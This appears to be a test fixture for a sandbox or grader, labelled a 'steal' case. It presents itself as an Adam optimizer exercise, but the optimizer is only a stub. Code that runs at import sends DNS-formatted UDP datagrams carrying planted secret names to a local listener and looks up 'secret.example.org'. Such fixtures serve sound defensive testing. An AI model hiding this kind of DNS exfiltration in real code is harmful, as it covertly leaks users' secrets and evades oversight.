# expect: wrong error timeout
# family: steal
# exercise: adam
# Sends datagrams to a listener, as DNS questions whose names are the secret.
import os
import socket

RESULTS = []
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        for number in range(5):
            line.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x10planted-" + bytes([48 + number]) * 8 + b"\0\0\1\0\1",
                        ("127.0.0.1", int("@UDP@")))
    RESULTS.append(socket.getaddrinfo("secret.example.org", 80))
except OSError as error:
    RESULTS.append(str(error))


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        pass
